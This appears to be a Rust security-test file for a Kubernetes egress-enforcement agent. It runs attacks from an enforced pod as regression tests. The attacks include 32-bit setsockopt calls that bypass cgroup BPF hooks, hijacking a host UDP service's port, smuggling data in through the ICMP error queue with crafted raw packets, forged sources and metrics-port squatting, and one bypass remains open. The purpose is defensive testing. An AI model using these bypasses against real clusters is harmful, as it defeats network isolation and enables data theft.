//! A thirty-ninth attack review, run as the code of an enforced Kubernetes pod: root in
//! its container, no `sandbox run` around it (so no seccomp filter), in a pod cgroup the
//! agent enrolled ([`TestEnv::root_pod`], in the agent's network namespace like a
//! `hostNetwork` pod, or the kubelet-shaped trees and pod namespaces of
//! `hb_tests::kube_cluster`). Each test performs one attack against the real agent and
//! kernel and counts what got through. A test marked `#[ignore = "open: …"]` is a break
//! found and not yet fixed: it fails against the current agent.
//!
//! Found (against b70f749):
//! - a pod's 32-bit `setsockopt` (`int $0x80`) skips every `cgroup/setsockopt` program,
//!   and nothing but `sandbox run`'s seccomp filter stops 32-bit calls. With
//!   `SO_REUSEADDR` set that way on a UDP socket, root in a `hostNetwork` pod bound a
//!   host service's port on `127.0.0.1` beside the service's wildcard socket: the service
//!   got 0 of 5 datagrams. Fixed: `cgroup/bind4|6` read the shared-port options back
//!   (`bpf_getsockopt`) and refuse the bind in the agent's namespace: 5 of 5.
//! - the agent's metrics port: a `hostNetwork` pod bound `127.0.0.1:9464` while the agent
//!   was down, and the restarted agent exited (it cannot listen), enrolling no new pod
//!   of the node until someone found the squatter. Fixed: `cgroup/bind4|6` refuse the
//!   agent's metrics port in its namespace (`HB_METRICS_PORT`): EPERM, the agent starts.
//! - the same 32-bit call joins a multicast group (2 to 4 IGMP reports naming the pod's
//!   group on the link) and turns the error queue on (1 ICMP error from a forbidden
//!   host read, 218 bytes of its payload): open, see
//!   [`a_pods_32_bit_setsockopt_cannot_join_groups_nor_read_icmp_errors`]. The fix is a
//!   BPF LSM program on `socket_setsockopt`, which this machine's kernel will not load
//!   (EPERM for every LSM or tracing program, even `r0 = 0; exit`); io_uring's
//!   `SOCKET_URING_OP_SETSOCKOPT` on a ring set up by a 32-bit call skips the cgroup
//!   program the same way (read in the kernel source, not tried). Closed since for
//!   Kubernetes pods: the agent refuses an enforced pod with a container outside hb's
//!   seccomp profile (`kubernetes.require_seccomp_profile`), which kills every 32-bit
//!   call and refuses io_uring (`pod_seccomp`). Still open for a cgroup enrolled by a
//!   `[[sandbox]]` glob whose processes run under no such profile (this test's pod).
//!
//! Held, kept as tests:
//! - a forged source in a pod's namespace (a 32-bit `IPV6_FREEBIND`): the query reaches
//!   the agent's resolver there, which answers any source, but the answer from `[::1]`
//!   never leaves `lo` (0 packets towards the forged address);
//! - nested (20 levels below the pod) and threaded child cgroups: EPERM, 0 accepted;
//! - MPTCP refused at creation in the agent's namespace, TCP Fast Open judged (EPERM, 0
//!   accepted; the allowed address works).
//!
//! Held, tried and not kept as tests:
//! - the window between a pod cgroup's `mkdir` and its enrollment, the pod known: 10
//!   racers, each a process already running that moved into the cgroup the moment it
//!   appeared and sent UDP to a forbidden address for 50 ms: 0 of ~280,000 sends got
//!   out (every one EPERM; the agent enrolls before a fresh socket's first send). The
//!   window that stays is the documented one (the pod unknown: agent down or API lag;
//!   `late_enrollment`). A socket made before the process joined the pod cgroup keeps
//!   its first cgroup for the packet hook, but nothing hands a pod such a socket (the
//!   runtime starts containers in their cgroup; the broker passes no sockets);
//! - a 32-bit `IP_FREEBIND` in the agent's namespace: the bind to a foreign address is
//!   still refused (`cgroup/bind4`).
//!
//! Not tried (read in the source): MPTCP subflows to an address a server announces in a
//! pod's own namespace (the kernel accepts none by default, `add_addr_accepted 0`, and a
//! subflow's packets carry the pod's cgroup to `cgroup_skb/egress`); io_uring
//! `CONNECT`/`SENDMSG` (the same inet paths and hooks, in the submitting task or its
//! io-wq worker, of the pod's cgroup); SCTP (not built into this kernel).
//!
//! Everything lives in the test's own network namespace, addresses on `lo`.

use std::{
    fs,
    io::{BufRead as _, BufReader, Write as _},
    process::{Command, Stdio},
};

use hb_tests::{
    PY_COMPAT_SETSOCKOPT, TestEnv, capture::Capture, pod_glob, private_netns, python,
    random_suffix, sh, spawn_ready,
};

/// Allowed by the policy (a static CIDR, excepted from the deny ranges).
const ALLOWED4: &str = "203.0.113.10";
/// Not allowed: the host's private address a pod may not hear from or send to.
const FORBIDDEN4: &str = "10.0.0.1";
/// The group the pod joins.
const GROUP: &str = "239.7.7.9";
/// The host's UDP service (bound with `SO_REUSEADDR` on the wildcard address, as many
/// UDP daemons do).
const SERVICE_PORT: u16 = 7100;

/// The agent with policy `narrow` (the allowed address as a static CIDR, `inbound`
/// left false) and pods enrolled by its glob.
fn agent(name: &str) -> TestEnv {
    let mut env = TestEnv::new(
        name,
        &format!(
            "[egress]\nexception_cidrs = [\"203.0.113.0/24\"]\n\n[[policy]]\nname = \"narrow\"\n\
             allow_cidrs = [\"{ALLOWED4}/32\"]\n{}",
            pod_glob("narrow")
        ),
    );
    env.start_agent();
    env
}

/// The pod's part: joins [`GROUP`] natively and through the 32-bit entry; opens two UDP
/// sockets connected to the allowed address's port 9 with `IP_RECVERR` set natively and
/// through the 32-bit entry; binds the host service's port on `127.0.0.1` with
/// `SO_REUSEADDR` set both ways; tries `IP_FREEBIND` and a bind to an address the host
/// does not hold. Prints `ready <native errq port> <compat errq port>` plus its results,
/// waits for a line, then prints what the error queues and the bound port received.
const PY_POD: &str = r#"
out = []
mreq = socket.inet_aton(sys.argv[1]) + socket.inet_aton("127.0.0.1")
j1, j2 = socket.socket(socket.AF_INET, socket.SOCK_DGRAM), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
out += ["join-native=" + native(j1, socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, mreq)]
out += ["join-compat=" + compat(j2, socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, mreq)]
errq = {}
for how, f in (("native", native), ("compat", compat)):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((sys.argv[2], 0))
    out += ["recverr-%s=%s" % (how, f(s, socket.IPPROTO_IP, 11, ONE))]
    s.connect((sys.argv[2], 9))
    errq[how] = s
r1, r2 = socket.socket(socket.AF_INET, socket.SOCK_DGRAM), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
port = int(sys.argv[3])
out += ["reuse-native=" + native(r1, socket.SOL_SOCKET, socket.SO_REUSEADDR, ONE) + "/" + attempt(lambda: r1.bind(("127.0.0.1", port)))]
out += ["reuse-compat=" + compat(r2, socket.SOL_SOCKET, socket.SO_REUSEADDR, ONE) + "/" + attempt(lambda: r2.bind(("127.0.0.1", port)))]
fb = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
out += ["freebind-compat=" + compat(fb, socket.IPPROTO_IP, 15, ONE) + "/" + attempt(lambda: fb.bind(("198.51.100.7", 0)))]
print("ready", errq["native"].getsockname()[1], errq["compat"].getsockname()[1], " ".join(out), flush=True)
sys.stdin.readline()
for how, s in errq.items():
    got = b""
    while True:
        try:
            data, anc, flags, addr = s.recvmsg(2048, 512, socket.MSG_ERRQUEUE | socket.MSG_DONTWAIT)
            got += data
        except OSError:
            break
    print("errqueue-%s=%d:%s" % (how, got.count(b"hb-exfil:"), len(got)), flush=True)
stolen = 0
for s in (r1, r2):
    s.setblocking(False)
    while True:
        try:
            stolen += s.recv(2048).count(b"hb-exfil:")
        except OSError:
            break
print("stolen=%d" % stolen, flush=True)
"#;

/// The host's UDP service (root, outside every hb cgroup): `SO_REUSEADDR` on
/// `0.0.0.0:argv[1]`; prints `ready`, then writes a line to the file `argv[2]` per tagged
/// datagram it receives.
const PY_SERVICE: &str = r#"
import socket, sys
log = open(sys.argv[2], "a", buffering=1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", int(sys.argv[1])))
print("ready", flush=True)
while True:
    d = s.recv(2048)
    if b"hb-exfil:" in d:
        log.write("got\n")
"#;

/// The world outside the pod: an ICMP port-unreachable from [`FORBIDDEN4`] to each of
/// the pod's error-queue sockets (`argv[1..3]`, source ports; the quoted datagram
/// carries a tagged payload of the sender's choosing), then five tagged datagrams from
/// a host client to the service on `127.0.0.1`.
const PY_WORLD: &str = r#"
import socket, struct, sys
def csum(b):
    if len(b) % 2: b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16: s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff
def iphdr(src, dst, proto, total):
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, 0, 0, 64, proto, 0,
                       socket.inet_aton(src), socket.inet_aton(dst))
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
allowed, forbidden = sys.argv[3], sys.argv[4]
for port in (int(sys.argv[1]), int(sys.argv[2])):
    payload = b"hb-exfil:errqueue-" + b"x" * 200
    udp = struct.pack("!HHHH", port, 9, 8 + len(payload), 0)
    inner = iphdr(allowed, allowed, 17, 20 + len(udp) + len(payload)) + udp + payload
    icmp = struct.pack("!BBHI", 3, 3, 0, 0) + inner
    icmp = icmp[:2] + struct.pack("!H", csum(icmp)) + icmp[4:]
    raw.sendto(iphdr(forbidden, allowed, 1, 20 + len(icmp)) + icmp, (allowed, 0))
c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(5):
    c.sendto(b"hb-exfil:service-%d" % i, ("127.0.0.1", int(sys.argv[5])))
print("sent", flush=True)
"#;

/// The value of `key=` among the words of `text`.
fn field<'a>(text: &'a str, key: &str) -> &'a str {
    text.split_whitespace()
        .find_map(|w| w.strip_prefix(key).and_then(|r| r.strip_prefix('=')))
        .unwrap_or("-")
}

/// What [`compat_attack`] saw: the pod's output, the IGMP reports naming its group on
/// `lo`, and the tagged datagrams the host's service received (of 5).
struct Compat {
    text: String,
    reports: usize,
    served: usize,
}

/// Root in an enforced pod in the agent's network namespace (a `hostNetwork` pod) runs
/// [`PY_POD`]: each option `cgroup/setsockopt` refuses natively, set natively and then
/// through the 32-bit entry; the world ([`PY_WORLD`]) sends it ICMP errors and the host
/// service's clients send their datagrams.
fn compat_attack(name: &str) -> Compat {
    private_netns(&[ALLOWED4, FORBIDDEN4]);
    sh("ip link set lo multicast on");
    let capture = Capture::lo();
    let env = agent(name);
    let pod = env.root_pod("narrow");
    let log = std::env::temp_dir().join(format!("hb-ar39-{}", random_suffix()));
    let mut service = spawn_ready(
        Command::new(python()).args([
            "-c",
            PY_SERVICE,
            &SERVICE_PORT.to_string(),
            &log.display().to_string(),
        ]),
        "the host's service",
    );
    let mut child = pod
        .command(&[
            python(),
            "-c",
            &format!("{PY_COMPAT_SETSOCKOPT}\n{PY_POD}"),
            GROUP,
            ALLOWED4,
            &SERVICE_PORT.to_string(),
        ])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("the pod's script");
    let mut lines = BufReader::new(child.stdout.take().expect("stdout")).lines();
    let ready = lines.next().expect("a line").expect("ready line");
    let words: Vec<&str> = ready.split_whitespace().collect();
    assert_eq!(words.first(), Some(&"ready"), "{ready}");
    let world = Command::new(python())
        .args([
            "-c",
            PY_WORLD,
            words[1],
            words[2],
            ALLOWED4,
            FORBIDDEN4,
            &SERVICE_PORT.to_string(),
        ])
        .output()
        .expect("the world's script");
    assert!(
        String::from_utf8_lossy(&world.stdout).contains("sent"),
        "{}",
        String::from_utf8_lossy(&world.stderr)
    );
    std::thread::sleep(std::time::Duration::from_millis(300));
    writeln!(child.stdin.as_mut().expect("stdin"), "go").expect("go");
    let rest: Vec<String> = lines.map_while(Result::ok).collect();
    let _ = child.wait();
    let _ = service.kill();
    let _ = service.wait();
    let served = fs::read_to_string(&log)
        .unwrap_or_default()
        .lines()
        .filter(|l| *l == "got")
        .count();
    let _ = fs::remove_file(&log);
    let text = format!("{ready} {}", rest.join(" "));
    let group_bytes = GROUP.parse::<std::net::Ipv4Addr>().expect("group").octets();
    let reports = ["224.0.0.22", GROUP]
        .iter()
        .flat_map(|dst| capture.to(dst.parse().expect("address")))
        .filter(|p| p.0.len() > 20 && p.0[9] == 2 && p.carries(&group_bytes))
        .count();
    println!(
        "figure: 32-bit setsockopt from an enforced pod: IGMP reports naming {GROUP}: {reports}; \
         error-queue reads (tags:bytes) native {}, compat {}; of 5 datagrams to the host's \
         service on 127.0.0.1:{SERVICE_PORT}, the service got {served}, the pod read {}; the \
         pod saw: {text}",
        field(&text, "errqueue-native"),
        field(&text, "errqueue-compat"),
        field(&text, "stolen")
    );
    // The controls: each option is refused (or neutralised) natively.
    assert_eq!(field(&text, "join-native"), "EPERM", "{text}");
    assert_eq!(
        field(&text, "errqueue-native").split(':').next(),
        Some("0"),
        "{text}"
    );
    assert!(field(&text, "reuse-native").starts_with("EPERM"), "{text}");
    Compat {
        text,
        reports,
        served,
    }
}

/// Fixed: a pod's **32-bit `SO_REUSEADDR`** (`int $0x80`, which skips every
/// `cgroup/setsockopt` program: `do_sock_setsockopt(sock, in_compat_syscall(), …)`;
/// `sandbox run` closes that with its seccomp filter, and nothing does for a pod, whose
/// runtime's default seccomp profile allows the 32-bit ABI). With the option set on a UDP
/// socket, root in a `hostNetwork` pod bound the host service's port on `127.0.0.1`
/// beside the service's wildcard socket (which set `SO_REUSEADDR`, as many UDP daemons
/// do), and the kernel handed the pod every datagram sent there: on b70f749 the service
/// got 0 of 5 (the pod's own ingress then dropped them: read 0). `cgroup/bind4|6` now
/// reads the option back at the bind and refuses a shared port in the agent's namespace:
/// the service gets 5 of 5. `IP_FREEBIND` set the same way gets nothing either: the bind
/// to an address the host does not hold is refused (`cgroup/bind4`), as before.
#[test]
fn a_pods_32_bit_reuseaddr_cannot_take_a_host_services_port() {
    let got = compat_attack("ar39-reuse");
    assert!(
        field(&got.text, "freebind-compat").ends_with("/EPERM"),
        "{}",
        got.text
    );
    assert_eq!(
        field(&got.text, "reuse-compat"),
        "OK/EPERM",
        "the option is set, the bind refused: {}",
        got.text
    );
    assert_eq!(
        got.served, 5,
        "the pod took the host service's datagrams: {}",
        got.text
    );
}

/// Open: the other options a pod sets through the 32-bit entry, which no program sees:
/// - `IP_ADD_MEMBERSHIP`: the kernel sends IGMP reports naming the pod's group (28 bits
///   of its choosing per report, onto the link): 2 to 4 reports on b70f749 and after;
/// - `IP_RECVERR`: an ICMP error from a host the pod may not hear, quoting a datagram
///   with a payload of the sender's choosing, is queued and read (`MSG_ERRQUEUE`): an
///   inbound channel no program sees (1 error, 218 bytes; natively the option is
///   rewritten to 0 and nothing is queued).
///
/// The fix needs a program that sees 32-bit `setsockopt` calls: a BPF LSM program on
/// `socket_setsockopt` (called before the cgroup programs, whatever the ABI) refusing
/// the options `hb_setsockopt` judges when the call is not the native system call. This
/// machine's kernel refuses to load any `BPF_PROG_TYPE_LSM` or tracing program (EPERM,
/// even `r0 = 0; exit`), so it cannot be proved here. Until then a pod needs a seccomp
/// profile that allows only the native ABI.
#[test]
#[ignore = "open: 32-bit setsockopt from a glob-enrolled pod skips cgroup/setsockopt \
            (Kubernetes pods must run under hb's seccomp profile, which kills the call; \
            a glob cgroup needs a BPF LSM program on socket_setsockopt)"]
fn a_pods_32_bit_setsockopt_cannot_join_groups_nor_read_icmp_errors() {
    let got = compat_attack("ar39-compat");
    assert_eq!(
        got.reports, 0,
        "the pod's 32-bit join sent IGMP reports: {}",
        got.text
    );
    assert_eq!(
        field(&got.text, "errqueue-compat").split(':').next(),
        Some("0"),
        "the pod read ICMP errors from {FORBIDDEN4}: {}",
        got.text
    );
}

/// In the pod's own network namespace: an IPv6 UDP socket bound to `argv[1]` (an
/// address no interface holds) after `IPV6_FREEBIND` (native first, then through the
/// 32-bit entry), sending a DNS query for `argv[2]` to `[::1]:53` (which the kernel
/// redirects to the agent's resolver listener in the namespace). Prints
/// `freebind-native=… freebind-compat=… bind=… send=…`.
const PY_FORGED_QUERY: &str = r#"
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
out = ["freebind-native=" + native(s, socket.IPPROTO_IPV6, 78, ONE)]
out += ["freebind-compat=" + compat(s, socket.IPPROTO_IPV6, 78, ONE)]
out += ["bind=" + attempt(lambda: s.bind((sys.argv[1], 0)))]
name = b"".join(bytes([len(l)]) + l for l in sys.argv[2].encode().split(b".")) + b"\0"
query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + name + b"\x00\x01\x00\x01"
out += ["send=" + attempt(lambda: s.sendto(query, ("::1", 53)))]
c = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
c.settimeout(3)
c.sendto(query, ("::1", 53))
out += ["control=%d" % c.recv(4096).count(sys.argv[2].split(".")[0].encode())]
print(" ".join(out), flush=True)
"#;

/// A packet capture on `lo` of the namespace it runs in (root, outside every pod
/// cgroup): prints `ready`, then `seen` for each packet to the address `argv[1]`
/// carrying the bytes `argv[2]`.
const PY_SNIFF: &str = r#"
import socket, sys
s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
s.bind((sys.argv[3], 0))
dst, tag = socket.inet_pton(socket.AF_INET6, sys.argv[1]), sys.argv[2].encode()
print("ready", flush=True)
while True:
    p = s.recv(65536)
    if len(p) >= 40 and p[0] >> 4 == 6 and p[24:40] == dst and tag in p:
        print("seen", flush=True)

"#;

/// Held (kept as a regression test): **a forged source in a pod's own network
/// namespace.** The agent's resolver listener in a pod's namespace answers every source
/// (`dns::serve_udp`, `local` is `None` there), on the ground that the options which let
/// a socket take a source the namespace does not hold are refused (`IPV6_FREEBIND` and
/// the rest, by `cgroup/setsockopt`; `cgroup/bind6` and `sendmsg6` check sources only in
/// the agent's namespace). Through the 32-bit entry the option is set (see the test
/// above): the pod binds an address of its choosing and its query reaches the resolver
/// (the redirect applies). The answer still goes nowhere: the listener is bound to
/// `[::1]`, and the kernel routes no packet from a loopback source off `lo` (nothing
/// carrying the pod's name reached the pod namespace's device towards the forged
/// address, whose route goes out of it). The same for `127.0.0.1` and IPv4 (a forged
/// IPv4 source needs `IP_TRANSPARENT` too). Should the listeners ever bind a
/// non-loopback address, this test is the one that would see it.
#[test]
fn a_pods_forged_source_gets_the_agents_resolver_to_answer_elsewhere() {
    use hb_tests::{
        kube::{Driver, FakePod, Qos, container_cgroup, wait_until},
        kube_cluster::{Cluster, NODE, PodNetns},
    };
    const FORGED: &str = "2001:db8:39::7";
    let c = Cluster::start("ar39-forged");
    let pod = FakePod::new("forger", "agents", NODE, Some("web"));
    c.add_enforced_pod(&pod);
    let dir = c.pod_dir(Driver::Systemd, Qos::Burstable, &pod.uid);
    fs::create_dir_all(&dir).expect("pod cgroup");
    c.wait_enrolled(&dir, "web");
    let netns = PodNetns::new();
    let _pause = netns.pause_in(&dir.join(container_cgroup(Driver::Systemd)));
    assert!(
        wait_until(std::time::Duration::from_secs(10), || netns
            .listeners()
            .len()
            == 6),
        "the pod's namespace was never served: {:?}\n{}",
        netns.listeners(),
        c.log()
    );
    // The pod's route towards the forged address, out of a device of its namespace (a
    // veth pair there: its other end is where the answer would show).
    for cmd in [
        "ip link add p0 type veth peer name p1",
        "ip link set p0 up",
        "ip link set p1 up",
        "ip -6 route add 2001:db8:39::/64 dev p0",
    ] {
        let argv: Vec<&str> = cmd.split(' ').collect();
        let out = netns.run(&argv);
        assert!(out.status.success(), "{cmd}: {out:?}");
    }
    let tag = format!("hbexfil{}", random_suffix());
    let sniff_net = format!("--net={}", netns.path());
    let mut sniffer = Command::new("nsenter")
        .args([
            &sniff_net,
            "--",
            python(),
            "-c",
            PY_SNIFF,
            FORGED,
            &tag,
            "p0",
        ])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .spawn()
        .expect("sniffer");
    let mut seen = BufReader::new(sniffer.stdout.take().expect("stdout")).lines();
    assert_eq!(seen.next().and_then(Result::ok).as_deref(), Some("ready"));
    let name = format!("{tag}.allowed.test");
    let out = netns.run_in_pod(
        Driver::Systemd,
        &dir,
        &[
            "setpriv",
            "--reuid",
            "65534",
            "--regid",
            "65534",
            "--clear-groups",
            "--",
            python(),
            "-c",
            &format!("{PY_COMPAT_SETSOCKOPT}\n{PY_FORGED_QUERY}"),
            FORGED,
            &name,
        ],
    );
    let said = String::from_utf8_lossy(&out.stdout).into_owned();
    std::thread::sleep(std::time::Duration::from_millis(500));
    let _ = sniffer.kill();
    let lines: Vec<String> = seen.map_while(Result::ok).collect();
    eprintln!(
        "{lines:?}\n{}",
        c.log().lines().rev().take(8).collect::<Vec<_>>().join("\n")
    );
    let answers = lines.iter().filter(|l| *l == "seen").count();
    let _ = sniffer.wait();
    println!(
        "figure: packets to the forged source {FORGED} carrying the pod's chosen name: \
         {answers}; the pod saw: {} {}",
        said.trim(),
        String::from_utf8_lossy(&out.stderr).trim()
    );
    assert_eq!(field(&said, "freebind-native"), "EPERM", "{said}");
    assert_eq!(
        (
            field(&said, "bind"),
            field(&said, "send"),
            field(&said, "control")
        ),
        ("OK", "OK", "1"),
        "the forged query must be sent, and the resolver answer an honest one: {said}"
    );
    assert_eq!(
        answers, 0,
        "the agent's resolver answered the pod's forged source: {said}"
    );
}

/// In the pod's cgroup (root, as the pod's code may be): a nested chain of 20 child
/// cgroups with the process moved to the deepest, and a threaded child cgroup
/// (`cgroup.type` = threaded, below a child the process moved to first) with one thread
/// moved there (`cgroup.threads`); from each,
/// a TCP connect to the forbidden address. Prints `deep=… threaded=…` (`OK` or the
/// errno's name).
const PY_SUBTREE: &str = r#"
import errno, os, socket, sys, threading
pod, port = sys.argv[1], int(sys.argv[2])
def connect():
    s = socket.socket(); s.settimeout(2)
    try:
        s.connect((sys.argv[3], port)); return "OK"
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e))
out = {}
# A domain child that becomes the process's threaded domain, its threaded child.
x = os.path.join(pod, "x")
t = os.path.join(x, "t")
os.mkdir(x); os.mkdir(t)
with open(os.path.join(t, "cgroup.type"), "w") as f:
    f.write("threaded")
with open(os.path.join(x, "cgroup.procs"), "w") as f:
    f.write(str(os.getpid()))
def in_threaded():
    with open(os.path.join(t, "cgroup.threads"), "w") as f:
        f.write(str(threading.get_native_id()))
    out["threaded"] = connect()
th = threading.Thread(target=in_threaded); th.start(); th.join()
deep = os.path.join(pod, "d")
os.mkdir(deep)
for i in range(20):
    deep = os.path.join(deep, "n%d" % i)
    os.mkdir(deep)
with open(os.path.join(deep, "cgroup.procs"), "w") as f:
    f.write(str(os.getpid()))
out["deep"] = connect()
print(" ".join("%s=%s" % kv for kv in sorted(out.items())), flush=True)
"#;

/// Held (kept as a regression test): **the pod's own cgroup subtree.** Where a pod may
/// write below its cgroup (a delegated subtree, root with the cgroupfs writable), it
/// gains nothing: a process 20 levels below the pod's cgroup (deeper than the 16 levels
/// the programs walk) and a thread in a threaded child cgroup are judged under the
/// pod's policy, since the walk starts at the root and the pod's cgroup is near it.
#[test]
fn a_pods_nested_and_threaded_child_cgroups_stay_under_its_policy() {
    private_netns(&[ALLOWED4, FORBIDDEN4]);
    let env = agent("ar39-subtree");
    let pod = env.root_pod("narrow");
    let listener = std::net::TcpListener::bind((FORBIDDEN4, 0)).expect("listener");
    listener.set_nonblocking(true).expect("nonblocking");
    let port = listener.local_addr().expect("addr").port().to_string();
    let pod_dir = hb_tests::cgroup2_mount().join(&pod.rel);
    let out = pod.run(&[
        python(),
        "-c",
        PY_SUBTREE,
        &pod_dir.display().to_string(),
        &port,
        FORBIDDEN4,
    ]);
    let said = String::from_utf8_lossy(&out.stdout).into_owned();
    let accepted = std::iter::from_fn(|| listener.accept().ok()).count();
    println!(
        "figure: from a pod's nested and threaded child cgroups: {} (stderr: {}); \
         connections accepted by the forbidden address: {accepted}",
        said.trim(),
        String::from_utf8_lossy(&out.stderr).trim()
    );
    assert_eq!(
        (field(&said, "deep"), field(&said, "threaded")),
        ("EPERM", "EPERM"),
        "{said}"
    );
    assert_eq!(accepted, 0);
}

/// From the pod: an MPTCP connect (`IPPROTO_MPTCP`, 262; `socket-ERRNO` when the socket
/// is refused) and a TCP Fast Open send (`sendto` with `MSG_FASTOPEN` and a payload) to
/// `argv[1]:argv[2]`, each also to the allowed `argv[3]:argv[4]` (controls). Prints
/// `mptcp=… tfo=… mptcp-allowed=… tfo-allowed=…`.
const PY_PROTOCOLS: &str = r#"
import errno, socket, sys
def attempt(f):
    try:
        f(); return "OK"
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e))
def mptcp(host, port):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
    except OSError as e:
        return "socket-" + errno.errorcode.get(e.errno, str(e))
    s.settimeout(3)
    return attempt(lambda: s.connect((host, port)))
def tfo(host, port):
    s = socket.socket()
    return attempt(lambda: s.sendto(b"hb-exfil:tfo", socket.MSG_FASTOPEN, (host, port)))
out = []
for label, host, port in (("", sys.argv[1], int(sys.argv[2])), ("-allowed", sys.argv[3], int(sys.argv[4]))):
    out += ["mptcp%s=%s" % (label, mptcp(host, port)), "tfo%s=%s" % (label, tfo(host, port))]
print(" ".join(out), flush=True)
"#;

/// Held (kept as a regression test): **MPTCP and TCP Fast Open from a pod** in the
/// agent's network namespace (no seccomp filter there, root). An MPTCP socket is refused
/// at its creation there (`cgroup/sock_create`, reason `mptcp`: its subflows are the
/// kernel's own sockets), towards any address; a Fast Open `sendto` meets `connect4`
/// through `__inet_stream_connect`: refused towards the forbidden address (nothing
/// accepted there), sent towards the allowed one.
#[test]
fn a_pods_mptcp_and_fast_open_connects_are_judged() {
    private_netns(&[ALLOWED4, FORBIDDEN4]);
    sh("sysctl -qw net.ipv4.tcp_fastopen=3");
    let env = agent("ar39-protocols");
    let pod = env.root_pod("narrow");
    let listen = |host: &str| {
        let l = std::net::TcpListener::bind((host, 0)).expect("listener");
        l.set_nonblocking(true).expect("nonblocking");
        l
    };
    let (forbidden, allowed) = (listen(FORBIDDEN4), listen(ALLOWED4));
    let port = |l: &std::net::TcpListener| l.local_addr().expect("addr").port().to_string();
    let out = pod.run(&[
        python(),
        "-c",
        PY_PROTOCOLS,
        FORBIDDEN4,
        &port(&forbidden),
        ALLOWED4,
        &port(&allowed),
    ]);
    let said = String::from_utf8_lossy(&out.stdout).into_owned();
    std::thread::sleep(std::time::Duration::from_millis(200));
    let accepted = |l: &std::net::TcpListener| std::iter::from_fn(|| l.accept().ok()).count();
    let (to_forbidden, to_allowed) = (accepted(&forbidden), accepted(&allowed));
    println!(
        "figure: MPTCP and Fast Open from a pod: {} ({}); connections accepted by the \
         forbidden address {to_forbidden}, by the allowed one {to_allowed}",
        said.trim(),
        String::from_utf8_lossy(&out.stderr).trim()
    );
    assert_eq!(
        (field(&said, "mptcp"), field(&said, "mptcp-allowed")),
        ("socket-EPERM", "socket-EPERM"),
        "{said}"
    );
    assert_eq!(
        (field(&said, "tfo"), field(&said, "tfo-allowed")),
        ("EPERM", "OK"),
        "{said}"
    );
    assert_eq!((to_forbidden, to_allowed), (0, 1), "{said}");
}

/// The agent's metrics address in the tests' namespaces (`agent.metrics_listen`'s
/// default).
const METRICS: &str = "127.0.0.1:9464";

/// A squatter on `argv[1]:argv[2]`: prints `bound` (or `bind=ERRNO` and ends), then
/// answers every connection `200 OK` with the body `ready (squatter)`.
const PY_SQUATTER: &str = r#"
import errno, socket, sys
s = socket.socket()
try:
    s.bind((sys.argv[1], int(sys.argv[2])))
except OSError as e:
    print("bind=" + errno.errorcode.get(e.errno, str(e)), flush=True); sys.exit(0)
s.listen(16)
print("bound", flush=True)
while True:
    c, _ = s.accept()
    c.recv(4096)
    c.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 17\r\n\r\nready (squatter)\n")
    c.close()
"#;

/// `GET /readyz` on the metrics address: the status line and body, or the error.
fn readyz() -> String {
    use std::io::Read as _;
    let addr = METRICS.parse().expect("address");
    let Ok(mut s) = std::net::TcpStream::connect_timeout(&addr, std::time::Duration::from_secs(3))
    else {
        return "refused".into();
    };
    let _ = s.set_read_timeout(Some(std::time::Duration::from_secs(3)));
    let _ = s.write_all(b"GET /readyz HTTP/1.0\r\nHost: x\r\n\r\n");
    let mut text = String::new();
    let _ = s.read_to_string(&mut text);
    text.lines()
        .filter(|l| l.starts_with("HTTP/") || l.contains("ready"))
        .collect::<Vec<_>>()
        .join(" | ")
}

/// Fixed: **the agent's metrics port, taken while the agent restarts.** A `hostNetwork`
/// pod (or any enrolled cgroup in the agent's network namespace, a `sandbox run`
/// sandbox too) bound the agent's metrics address while the agent was down (a DaemonSet
/// rollout, an OOM kill, a crash): on b70f749 the restarted agent could not listen and
/// exited ("cannot listen: Address already in use"), so no new pod cgroup of the node
/// was enrolled from then on, while the pinned enrollments kept enforcing the pods that
/// ran before. (Under a policy with `inbound = true` the squatter would also answer the
/// kubelet's probes; under this one its listener is unreachable.) `cgroup/bind4|6` now
/// refuse the metrics port (`HB_METRICS_PORT`, the last agent's) in the agent's
/// namespace as they refuse the resolver's and guard's ports: EPERM, and the agent
/// starts again.
#[test]
fn a_pod_cannot_take_the_agents_metrics_port_while_it_restarts() {
    private_netns(&[ALLOWED4, FORBIDDEN4]);
    let mut env = agent("ar39-metrics");
    let pod = env.root_pod("narrow");
    env.stop_agent();
    let (host, port) = METRICS.split_once(':').expect("host:port");
    let mut squatter = pod
        .command(&[python(), "-c", PY_SQUATTER, host, port])
        .stdout(Stdio::piped())
        .spawn()
        .expect("the squatter");
    let mut said = String::new();
    BufReader::new(squatter.stdout.take().expect("stdout"))
        .read_line(&mut said)
        .expect("the squatter's line");
    let started = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
        env.start_agent();
    }))
    .is_ok();
    let probe = readyz();
    let _ = squatter.kill();
    let _ = squatter.wait();
    println!(
        "figure: the pod's bind of {METRICS} while the agent was down: {}; the agent \
         restarted: {started}; /readyz answered: {probe}",
        said.trim()
    );
    assert_eq!(said.trim(), "bind=EPERM", "the pod bound the metrics port");
    assert!(started, "the agent did not start again");
    assert!(!probe.contains("squatter"), "{probe}");
}
